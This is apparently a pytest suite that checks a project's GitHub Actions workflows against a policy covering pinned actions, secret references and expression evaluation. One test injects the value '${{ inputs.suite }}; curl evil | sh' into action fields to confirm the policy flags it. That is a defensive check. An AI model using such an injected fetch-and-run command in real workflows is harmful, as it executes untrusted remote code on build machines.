"""The rules that keep a change from judging itself, in every workflow and action that ships."""

from __future__ import annotations

import copy
import random
import re
from collections import defaultdict
from pathlib import Path

import pytest
import workflow_mutants
import workflow_policy
import workflow_runner
import workflow_spec

from flashcore_ci.store.statement import PREDICATE_TYPE

GITHUB = workflow_runner.GITHUB
FILES = sorted(GITHUB.rglob("*.yml"))
WORKFLOWS = workflow_runner.workflows()
STEPS = list(workflow_runner.steps())


def test_workflows_and_actions_say_only_what_is_listed() -> None:
    assert workflow_policy.problems(WORKFLOWS) == []
    assert workflow_policy.action_problems(workflow_runner.actions()) == []


@pytest.mark.parametrize("name", workflow_mutants.WRITTEN)
def test_every_weakening_is_found(name: str) -> None:
    assert workflow_policy.problems(workflow_mutants.mutant(workflow_mutants.WRITTEN[name]))


def test_generated_weakenings_are_found() -> None:
    numbers = random.Random(15)
    for _ in range(300):
        name, flows = workflow_mutants.generated(numbers)
        assert workflow_policy.problems(flows), name


@pytest.mark.parametrize("name", workflow_runner.actions())
@pytest.mark.parametrize("key", ["run", "env", "shell", "uses"])
def test_a_weakened_action_is_found(name: str, key: str) -> None:
    actions = copy.deepcopy(workflow_runner.actions())
    actions[name]["runs"]["steps"][0][key] = "${{ inputs.suite }}; curl evil | sh"
    assert workflow_policy.action_problems(actions)


def test_one_predicate_is_signed_verified_and_written() -> None:
    verify = (GITHUB / "actions/verify.py").read_text(encoding="utf-8")
    assert f'PREDICATE_TYPE = "{PREDICATE_TYPE}"' in verify
    assert dict(workflow_spec.STEPS["attest"])["actions/attest"]["predicate-type"] == PREDICATE_TYPE


def test_one_action_has_one_pin_and_says_its_tag() -> None:
    pins = defaultdict(set)
    for path in FILES:
        for line in path.read_text(encoding="utf-8").splitlines():
            if "uses: " in line and not re.search(rf"uses: (\./|\$/|{re.escape(workflow_spec.CALL)}$)", line):
                action, _, pin = line.split("uses: ")[1].partition("@")
                assert re.fullmatch(r"[0-9a-f]{40} # v\d+\.\d+\.\d+", pin), line
                pins[action].add(pin)
    assert pins
    assert [action for action, found in pins.items() if len(found) > 1] == []


def test_no_secret_is_named_anywhere() -> None:
    assert [path for path in FILES if "secrets" in path.read_text(encoding="utf-8").replace("no secrets", "")] == []


def test_the_local_run_executes_what_the_hosted_jobs_make() -> None:
    local = Path(GITHUB.parent / ".ci/run").read_text(encoding="utf-8")
    hosted = {step["run"].removeprefix("make ") for _, step in STEPS if step.get("run", "").startswith("make ")}
    assert hosted
    assert hosted <= {word for line in re.findall(r"^ *make ([^>|&\n]+)", local, re.MULTILINE) for word in line.split()}


def test_the_expressions_can_be_wrong() -> None:
    context = {"github": {"ref": "main"}, "ok": False}
    assert workflow_runner.condition(None, context) is False
    assert workflow_runner.condition("always()", context) is True
    assert workflow_runner.condition("${{ !cancelled() && github.ref == 'main' }}", context) is True
    assert workflow_runner.condition("github.ref == 'main'", context) is False
    with pytest.raises(AssertionError):
        workflow_runner.evaluate("${{ github.ref ~ 3 }}", context)


@pytest.mark.parametrize(("event", "only"), [("pull_request", "twice-n4096"), ("merge_group", "")])
def test_the_merge_queue_measures_the_whole_suite(event: str, only: str) -> None:
    """Only its evidence answers for later changes. A part of it made each change of documentation wait for a GPU."""
    decide = WORKFLOWS["trusted.yml"]["jobs"]["decide"]
    context = {"github": {"event_name": event}, "steps": {"decide": {"outputs": {"only": "twice-n4096"}}}}
    assert workflow_runner.evaluate(decide["outputs"]["only"], context) == only
